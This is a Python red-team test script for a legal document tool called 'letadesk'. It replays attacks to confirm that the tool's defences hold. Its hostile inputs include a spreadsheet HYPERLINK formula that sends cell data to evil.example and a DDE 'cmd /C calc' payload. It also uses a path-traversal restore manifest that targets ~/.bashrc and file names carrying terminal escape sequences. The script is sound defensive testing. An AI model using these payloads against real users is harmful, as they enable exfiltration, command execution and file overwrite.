"""The workstation red team's cases, rerun against this checkout: one verdict a case.

    .venv/bin/python benchmarks/redteam_workstation.py [--keep DIR]

Each case replays the attack as the red team ran it, through the ``letadesk`` command in
a child process where it can (temporary profiles, a temporary HOME), and prints PASS when
the defence held, FAIL with what happened otherwise. Exit 1 when any case failed.
docs/security-workstation.md describes each defence.

  telemetry   onnxruntime loaded by the CLI writes nothing under ~/.cache/Microsoft,
              even with ORT_DISABLE_TELEMETRY=0 in the shell; under strace (where it is
              installed) no socket but AF_UNIX, no DNS lookup, no write outside
  restore     a backup with ``lnk -> d1/d2/d3/d4`` and a manifest entry
              ``lnk/../../../../.bashrc`` must not touch ~/.bashrc
  workbook    ``review --xlsx``'s writer given quotes and a file name that begin with
              = + - @ tab: no cell is a formula
  downgrade   schema set back to 4, head and newer columns dropped, records edited and
              re-chained in the old format: ``audit --verify`` must not say intact
  names       a folder holding ``bad_\\xff\\xfe_name.txt`` and a name with terminal escapes
              and a newline: ingest stores the good files, ``docs`` prints names escaped
  verified    a document verified by a person, then changed: no longer verified
  writers     an ingest of matter A while another writer holds A's lexical index: it
              waits and succeeds (was exit 6); one of matter B meanwhile does not wait
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
NDA = (
    "MUTUAL NON-DISCLOSURE AGREEMENT\n\n3.2 The obligations of confidentiality survive for "
    "five (5) years after termination of this Agreement.\n"
)
CONTRACT = (
    "CONTRACT DE PRESTARI SERVICII\n\nArt. 5. Contractul poate fi denuntat unilateral cu "
    "un preaviz de 30 de zile.\n"
)

Result = tuple[bool, str]


def letadesk(
    profile: Path, *args: str, env: dict[str, str] | None = None, timeout: int = 600
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "letadesk", "--data-dir", str(profile), *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=timeout,
        check=False,
        errors="surrogateescape",
    )


def case_telemetry(work: Path) -> Result:
    home = work / "home"
    home.mkdir()
    pairs = work / "pairs.jsonl"
    pairs.write_text(json.dumps({"claim": "The term is 30 days.", "quote": "30 days."}) + "\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("XDG_")}
    env.update(HOME=str(home), ORT_DISABLE_TELEMETRY="0")
    out = letadesk(work / "p", "check", "--pairs", str(pairs), env=env)
    written = [str(p.relative_to(home)) for p in home.rglob("*")]
    if out.returncode != 0:
        return False, f"check failed (exit {out.returncode}): {out.stderr.strip()[-300:]}"
    if any("Microsoft" in p for p in written):
        return False, f"onnxruntime wrote telemetry under HOME: {written}"
    detail = "nothing written under HOME by letadesk check (judge on onnxruntime)"
    if shutil.which("strace") is None:
        return True, detail + "; strace not installed, traced run skipped"
    traced = subprocess.run(
        [
            sys.executable,
            str(ROOT / "scripts" / "egress_trace.py"),
            f"--allow={work / 'p'}",
            "--",
            sys.executable,
            "-m",
            "letadesk",
            "--data-dir",
            str(work / "p"),
            "check",
            "--pairs",
            str(pairs),
        ],
        capture_output=True,
        text=True,
        env={**env, "PYTHONDONTWRITEBYTECODE": "1"},
        timeout=600,
        check=False,
    )
    if traced.returncode != 0:
        return False, f"strace found egress: {traced.stderr.strip()[-500:]}"
    return True, detail + "; under strace: no network socket, DNS lookup or write outside"


def _profile_with_audit(root: Path) -> Path:
    from letadesk.store import audit
    from letadesk.workspace import Workspace

    with Workspace.open(root) as ws:
        for i in range(3):
            record = {"question": f"Which law governs contract {i}? California"}
            audit.append(ws._conn, record, audit_id=audit.new_audit_id(), matter_id=None)
    return root


def case_restore(work: Path) -> Result:
    from letadesk.files import sha256_of

    source = _profile_with_audit(work / "source")
    copy = work / "backup"
    out = letadesk(source, "backup", str(copy))
    if out.returncode != 0:
        return False, f"backup failed: {out.stderr.strip()}"
    home = work / "home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# mine\n")
    (copy / "d1" / "d2" / "d3" / "d4").mkdir(parents=True)
    (copy / "lnk").symlink_to("d1/d2/d3/d4")
    (copy / ".bashrc").write_text("echo pwned\n")
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["files"]["lnk/../../../../.bashrc"] = sha256_of(copy / ".bashrc")
    (copy / "manifest.json").write_text(json.dumps(manifest))
    out = letadesk(home / "d1" / "d2" / "d3", "restore", str(copy))
    if bashrc.read_text() != "# mine\n":
        return False, f"~/.bashrc overwritten (restore exit {out.returncode})"
    if out.returncode == 0:
        return False, "restore accepted the manifest (exit 0), though .bashrc is intact"
    return True, f"refused, exit {out.returncode}: {out.stderr.strip()}"


def case_workbook(work: Path) -> Result:
    from letadesk.export.grid import write_grid_xlsx

    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+1", "-1+1", "@SUM(1)"]
    name = "=cmd|' /C calc'!A0.txt"
    claims = [{"text": q, "citations": [{"quote": q, "page": 1}]} for q in hostile]
    cell = {"document": name, "question": "q", "disposition": "answered", "claims": claims}
    grid = {"matter": "M", "rows": [name], "columns": ["q"], "labels": ["q"], "cells": [cell]}
    path = write_grid_xlsx(grid, work / "grid.xlsx")
    with zipfile.ZipFile(path) as book:
        formulas = [
            n
            for n in book.namelist()
            if n.startswith("xl/worksheets/") and (b"<f>" in book.read(n) or b"<f " in book.read(n))
        ]
    if formulas:
        return False, f"formula cells in {formulas}"
    return True, "no formula in any sheet; the hostile values are text cells"


def case_downgrade(work: Path) -> Result:
    import apsw

    from letadesk.store import audit_chain

    profile = _profile_with_audit(work / "profile")
    raw = apsw.Connection(str(profile / "letadesk.sqlite3"))
    raw.execute("DROP TABLE audit_head; DROP TABLE review_cells")
    raw.execute("ALTER TABLE audit DROP COLUMN asked_by; ALTER TABLE audit DROP COLUMN purged_at")
    prev = audit_chain.GENESIS
    for seq, record in list(raw.execute("SELECT seq, record FROM audit ORDER BY seq")):
        body = json.loads(record)
        body["question"] = body["question"].replace("California", "Delaware")
        text = audit_chain.canonical(body)
        digest = audit_chain.legacy_chain(prev, text)
        raw.execute(
            "UPDATE audit SET record = ?, prev_hash = ?, hash = ? WHERE seq = ?",
            (text, prev, digest, seq),
        )
        prev = digest
    raw.execute("PRAGMA user_version=4")
    raw.close()
    out = letadesk(profile, "audit", "--verify")
    if out.returncode == 0 or "intact" in out.stdout:
        return False, f"audit --verify: exit {out.returncode}: {out.stdout.strip()[:200]}"
    return True, f"refused, exit {out.returncode}: {out.stderr.strip()[:240]}"


def case_names(work: Path) -> Result:
    docs = work / "docs"
    docs.mkdir()
    (docs / "good.txt").write_text(NDA)
    (docs / os.fsdecode(b"bad_\xff\xfe_name.txt")).write_text("bad name\n")
    (docs / "x\x1b]0;pwned\x07\x1b[31mred\n    9  indexed   fake.txt").write_text("escapes\n")
    profile = work / "profile"
    out = letadesk(profile, "ingest", str(docs), "--matter", "M", "--json")
    if out.returncode != 0 or "Traceback" in out.stderr:
        return False, f"ingest exit {out.returncode}: {out.stderr.strip()[-300:]}"
    report = json.loads(out.stdout)
    if report["added"] != 2 or len(report["failed"]) != 1:
        return False, f"ingest stored {report['added']}, failed {report['failed']}"
    listing = letadesk(profile, "docs", "--matter", "M").stdout
    if "\x1b" in listing or "\x07" in listing or len(listing.splitlines()) != 2:
        return False, f"docs printed raw names: {listing!r}"
    return True, f"2 good files stored, 1 reported ({report['failed'][0]['reason']}); docs escaped"


def case_verified(work: Path) -> Result:
    docs = work / "docs"
    docs.mkdir()
    contract = docs / "contract.txt"
    contract.write_text(CONTRACT)
    profile = work / "profile"
    steps = [
        letadesk(profile, "ingest", str(docs), "--matter", "M"),
        letadesk(profile, "meta", "contract.txt", "--matter", "M", "--verified"),
    ]
    contract.write_text(CONTRACT + "Art. 9. Prestatorul renunta la orice despagubire.\n")
    steps.append(letadesk(profile, "ingest", str(docs), "--matter", "M"))
    bad = [s for s in steps if s.returncode != 0]
    if bad:
        return False, f"a step failed: {bad[0].args[-6:]}: {bad[0].stderr.strip()}"
    listed = json.loads(letadesk(profile, "docs", "--matter", "M", "--json").stdout)
    if listed[0]["verified"]:
        return False, "the changed document is still marked verified"
    return True, "the changed document is unverified after the re-ingest"


def case_writers(work: Path) -> Result:
    from letadesk.config import Paths
    from letadesk.domain import LexicalRow
    from letadesk.index.matter_lexical import matter_folder
    from letadesk.index.tantivy_index import LexicalIndex

    for folder in ("a", "a2", "b"):
        (work / folder).mkdir()
    (work / "a" / "contract.txt").write_text(CONTRACT)
    (work / "a2" / "nda.txt").write_text(NDA)
    (work / "b" / "nda.txt").write_text(NDA)
    profile = work / "profile"
    first = letadesk(profile, "ingest", str(work / "a"), "--matter", "A")
    if first.returncode != 0:
        return False, f"first ingest failed: {first.stderr.strip()}"
    # matter A is the profile's first: its index is m1
    holder = LexicalIndex(matter_folder(Paths.resolve(profile).lexical_index, 1))
    holder.add([LexicalRow(999_999, 99, 99, "T", "", "held")])  # the other ingest's write
    other = letadesk(profile, "ingest", str(work / "b"), "--matter", "B")
    if other.returncode != 0:
        return False, f"matter B waited on A's writer: exit {other.returncode}"
    threading.Timer(3.0, holder.commit).start()
    started = time.monotonic()
    second = letadesk(profile, "ingest", str(work / "a2"), "--matter", "A")
    waited = time.monotonic() - started
    if second.returncode != 0:
        return False, f"exit {second.returncode}: {second.stderr.strip()}"
    if waited < 2.5:
        return False, f"matter A's second ingest did not wait for its writer ({waited:.1f} s)"
    cli = [sys.executable, "-m", "letadesk", "--data-dir", str(profile), "ingest"]
    both = [
        subprocess.Popen(
            [*cli, str(work / m), "--matter", m.upper() + "2"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        for m in ("a", "b")
    ]
    codes = [(p.wait(timeout=600), p.stderr.read() if p.stderr else "") for p in both]
    if any(code for code, _ in codes):
        return False, f"two ingests at once: {codes}"
    return (
        True,
        f"matter B did not wait; matter A waited for its writer ({waited:.1f} s incl. start) "
        "and succeeded; two at once: 0, 0",
    )


CASES: dict[str, Callable[[Path], Result]] = {
    "telemetry": case_telemetry,
    "restore": case_restore,
    "workbook": case_workbook,
    "downgrade": case_downgrade,
    "names": case_names,
    "verified": case_verified,
    "writers": case_writers,
}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("cases", nargs="*", help=f"some of {', '.join(CASES)} (default: all)")
    ap.add_argument("--keep", type=Path, help="keep each case's files under this folder")
    args = ap.parse_args()
    if unknown := [c for c in args.cases if c not in CASES]:
        ap.error(f"no such case: {', '.join(unknown)}")
    base = args.keep or Path(tempfile.mkdtemp(prefix="redteam-"))
    failed = 0
    for name in args.cases or list(CASES):
        work = base / name
        work.mkdir(parents=True)
        started = time.monotonic()
        try:
            ok, detail = CASES[name](work)
        except Exception as exc:  # a case that crashes is a failed case, not a crashed run
            ok, detail = False, f"{type(exc).__name__}: {exc}"
        failed += not ok
        took = time.monotonic() - started
        shown = " ".join(detail.split())
        print(f"{name:<10} {'PASS' if ok else 'FAIL'}  ({took:.1f} s)  {shown}", flush=True)
    if args.keep is None:
        shutil.rmtree(base, ignore_errors=True)
    print(f"{len(args.cases or CASES) - failed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
